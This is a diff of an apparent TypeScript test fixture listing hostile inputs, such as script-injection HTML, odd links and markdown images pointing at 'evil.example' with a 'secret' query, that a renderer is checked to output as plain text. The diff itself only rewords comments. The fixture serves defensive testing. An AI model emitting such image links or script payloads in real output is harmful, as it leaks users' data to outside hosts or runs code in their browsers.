@@ -1,7 +1,7 @@
-// Texts that a model, a document or a person may hand us in order to run something, to fetch something, or to lead astray. Each must come out
-// as text. They are grouped by what they try; a name says how.
+// Texts that a model, a document or a user may send in order to run code, to load something, or to
+// deceive. Each must be rendered as text. They are grouped by what they try, with a name each.
 
-/** HTML that would run, load, or draw over the page. */
+/** HTML that would run, load, or cover the page. */
 const html: Record<string, string> = {
   script: "<script>alert(1)</script>",
   "script in a sentence": "before <script>alert(1)</script> after",
@@ -140,7 +140,7 @@ const links: Record<string, string> = {
   "mail without an address": "[x](mailto:?body=x)",
 };
 
-/** Pictures that would tell a server who reads, and when. */
+/** Images that would tell a server who reads, and when. */
 const pictures: Record<string, string> = {
   image: "![x](https://evil.example/p.png)",
   "image with what was said": "![x](https://evil.example/p.png?q=secret)",
@@ -172,7 +172,7 @@ function prefixed(prefix: string, texts: Record<string, string>): Record<string,
   return Object.fromEntries(Object.entries(texts).map(([name, text]) => [prefix + name, text]));
 }
 
-/** What honest texts contain, and must come out with: `shows` is in the HTML. */
+/** Harmless texts, which must be rendered as such: `shows` is in the HTML. */
 export const honest: [name: string, text: string, shows: string][] = [
   ["emphasis", "a **b** and *c*", "<strong>b</strong>"],
   ["struck out", "~~old~~ new", "<del>old</del>"],
